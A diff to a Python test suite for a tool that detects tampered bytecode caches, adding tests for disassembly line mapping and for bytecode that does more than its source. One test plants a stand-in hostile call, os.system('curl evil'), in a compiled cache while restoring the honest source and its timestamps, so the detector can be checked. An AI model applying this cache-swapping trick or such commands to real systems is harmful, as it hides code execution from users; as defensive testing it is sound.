@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import dis
 import importlib.util
 import json
 import marshal
@@ -27,6 +28,9 @@ from trainwarden.seal.manifest import decode_manifest, manifest_ref
 from trainwarden.seal.pyc import compiled, is_cache_of
 from trainwarden.seal.seal import write_seal
 
+SOURCE = (
+    b"def f(a, *b, c=(1, 2.5, None)):\n    try:\n        return {a: [x for x in b]}\n    finally:\n        print(c)\n"
+)
 ACTS = {trap.name: trap.act for trap in TRAPS}
 
 
@@ -49,6 +53,37 @@ def test_bytecode_that_alone_changed_is_a_diff_of_instructions(site: Site) -> No
     assert (found.kind, found.bytecode, found.shown) == ("bytecode", "differs", "disassembly")
     changed = [line.split() for line in found.diff if line[0] in "+-" and line[:3] not in ("+++", "---")]
     assert changed == [["-", "BINARY_OP", "+"], ["+", "BINARY_OP", "-"]]
+    assert any(line.endswith("│ 2: return a + b") for line in found.diff), "the sealed source's line is told"
+
+
+def test_bytecode_that_does_more_than_its_source_is_named_by_what_it_brings_along(site: Site) -> None:
+    site.run("import sums")
+    site.seal_again()
+    honest, times = site.package.read_text(), site.package.stat()
+    site.package.write_text("import os\n\ndef add(a, b):\n    os.system('curl evil')\n    return a + b\n")
+    py_compile.compile(str(site.package), cfile=str(site.cache))
+    site.package.write_text(honest)
+    os.utime(site.package, ns=(times.st_atime_ns, times.st_mtime_ns))
+    (found,) = diffs(site).values()
+    assert found.diff[0] == "only in the found bytecode: 0, os, system, 'curl evil'"
+    for line in found.diff:
+        if "│" in line:
+            number, text = line.partition("│ ")[2].split(": ")
+            assert honest.splitlines()[int(number) - 1].strip() == text
+
+
+@pytest.mark.parametrize("source", [SOURCE, b"x = 1\n\n\n\ndef f():\n" + b"\n" * 70 + b"    return (1,\n  2)\n"])
+def test_source_lines_are_those_that_python_tells(source: bytes) -> None:
+    code = compile(source, "a.py", "exec", dont_inherit=True)
+    wanted = []
+    pending = [code]
+    while pending:
+        part = pending.pop(0)
+        wanted.append(part.co_firstlineno)
+        wanted += [i.positions.lineno or 0 for i in dis.get_instructions(part) if i.opname != "EXTENDED_ARG"]
+        pending[:0] = [c for c in part.co_consts if hasattr(c, "co_code")]
+    lines = disassemble(compiled(source, "a.py", 0) or b"") or []
+    assert [line.source for line in lines if "exception table" not in line.text] == wanted
 
 
 def test_sealed_bytecode_that_was_replaced_is_compared_with_the_sealed_bytes(site: Site) -> None:
@@ -166,10 +201,6 @@ def test_wrong_calls_are_one_error_and_one_hint(
 
 # ------------------------------------------------------------------------- fuzz
 
-SOURCE = (
-    b"def f(a, *b, c=(1, 2.5, None)):\n    try:\n        return {a: [x for x in b]}\n    finally:\n        print(c)\n"
-)
-
 
 @settings(max_examples=150, deadline=None)
 @given(st.data())
@@ -178,7 +209,7 @@ def test_damaged_bytecode_is_lines_or_none_and_never_benign(data: st.DataObject)
     for _ in range(data.draw(st.integers(1, 4))):
         whole[data.draw(st.integers(16, len(whole) - 1))] = data.draw(st.integers(0, 255))
     lines = disassemble(bytes(whole))
-    assert lines is None or lines[0].startswith("code ")
+    assert lines is None or lines[0].text.startswith("code ")
     is_cache_of(bytes(whole), SOURCE, "a.py", 0)
 
 
@@ -191,7 +222,7 @@ def test_damaged_bytecode_is_lines_or_none_and_never_benign(data: st.DataObject)
 @example(b"\xa9\x01r\x00\x00\x00\x00")
 def test_any_bytes_after_a_header_are_lines_or_none(body: bytes) -> None:
     lines = disassemble(importlib.util.MAGIC_NUMBER + bytes(12) + body)
-    assert lines is None or lines[0].startswith("code ")
+    assert lines is None or lines[0].text.startswith("code ")
 
 
 def test_a_cache_that_unfolds_without_end_is_refused() -> None:
